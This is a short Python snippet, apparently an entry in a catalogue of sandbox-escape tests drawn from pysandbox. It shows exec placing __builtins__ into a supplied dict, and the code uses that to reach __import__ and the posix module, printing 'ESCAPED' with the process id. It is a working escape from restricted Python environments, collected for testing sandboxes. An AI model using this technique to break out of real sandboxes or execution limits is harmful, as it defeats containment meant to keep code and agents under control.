# technique: exec puts __builtins__ into the dict that it is given
# goal: builtins
# source: pysandbox, test_call_exec_builtins
g = {}
exec('', g)
get = g['__builtins__']['__import__']
print('ESCAPED pid=%d' % get('posix').getpid())
